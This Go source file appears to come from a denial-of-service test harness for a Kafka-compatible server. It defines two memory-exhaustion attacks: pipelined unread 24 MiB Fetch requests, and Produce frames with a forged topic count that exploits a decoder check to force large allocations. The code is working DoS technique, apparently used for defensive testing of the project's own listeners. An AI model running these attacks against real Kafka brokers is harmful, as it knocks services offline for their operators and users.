package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// allocationAttacks are issue 14's classes: requests that make the server
// allocate more than the bytes they send (answers, decoding, decompression,
// group and producer state). Add one Attack per class of issue 14 here;
// attacks that need data in place first use Setup, which is not measured.
func allocationAttacks() []Attack {
	return []Attack{
		{Name: "kafka-pipeline-unread-fetch", Issue: 14, Listener: Kafka,
			What:  "2 connections each pipeline 40 Fetches of a 24 MiB partition (max 50 MiB) and never read",
			Setup: fillFetchTopic, Run: kafkaPipelineFetch},
		{Name: "kafka-produce-claimed-count", Issue: 14, Listener: Kafka,
			What: "1 connection at a time sends 8 MiB Produce v7 frames whose topic count claims every remaining byte",
			Run:  kafkaClaimedCount},
	}
}

// kafkaClaimedCount sends Produce frames whose topic array count is the
// number of bytes that follow it: kmsg checks a count only against the
// bytes left (one byte per element), then allocates count elements of
// tens of bytes each before the decoding fails.
func kafkaClaimedCount(ctx context.Context, t *Target) error {
	const size = 8 << 20
	frame := kafkaHead(size, 0, 7, 1)
	frame = binary.BigEndian.AppendUint16(frame, 0xffff) // transactional id: null
	frame = binary.BigEndian.AppendUint16(frame, 1)      // acks
	frame = binary.BigEndian.AppendUint32(frame, 1000)   // timeout
	count := size + 4 - len(frame) - 4                   // the bytes after the count
	frame = binary.BigEndian.AppendUint32(frame, uint32(count))
	frame = append(frame, make([]byte, count)...)
	return repeat(ctx, t.N(1), func(ctx context.Context, w int) {
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			for ctx.Err() == nil && writeAll(c, frame) {
				drainFor(c, 10*time.Millisecond)
			}
		})
	})
}

// fetchTopic holds the data kafka-pipeline-unread-fetch fetches.
const fetchTopic = "attack-fetch"

// fillFetchTopic produces 24 MiB into fetchTopic (96 records of 256 KiB,
// random and uncompressed): every Fetch of the attack then makes the
// server read and answer 24 MiB.
func fillFetchTopic(ctx context.Context, t *Target) error {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: AttackerIP(100)}, Timeout: 2 * time.Second}
	cl, err := kgo.NewClient(kgo.SeedBrokers(t.KafkaAddr), kgo.Dialer(d.DialContext), kgo.DefaultProduceTopic(fetchTopic),
		kgo.AllowAutoTopicCreation(), kgo.ProducerBatchCompression(kgo.NoCompression()))
	if err != nil {
		return err
	}
	defer cl.Close()
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	recs := make([]*kgo.Record, 96)
	for i := range recs {
		v := make([]byte, 256<<10)
		_, _ = rand.Read(v)
		recs[i] = &kgo.Record{Value: v}
	}
	if err := cl.ProduceSync(ctx, recs...).FirstErr(); err != nil {
		return fmt.Errorf("fill %s: %w", fetchTopic, err)
	}
	return nil
}

func kafkaPipelineFetch(ctx context.Context, t *Target) error {
	req := kmsg.NewPtrFetchRequest()
	req.Version = 4
	req.ReplicaID = -1
	req.MaxBytes = 50 << 20
	rt := kmsg.NewFetchRequestTopic()
	rt.Topic = fetchTopic
	rp := kmsg.NewFetchRequestTopicPartition()
	rp.PartitionMaxBytes = 50 << 20
	rt.Partitions = append(rt.Partitions, rp)
	req.Topics = append(req.Topics, rt)
	var msg []byte
	for i := int32(0); i < 40; i++ {
		msg = kafkaFormatter.AppendRequest(msg, req, i)
	}
	return hold(ctx, t, Kafka, t.N(2), 2, 0, func(ctx context.Context, c net.Conn) { writeAll(c, msg) })
}
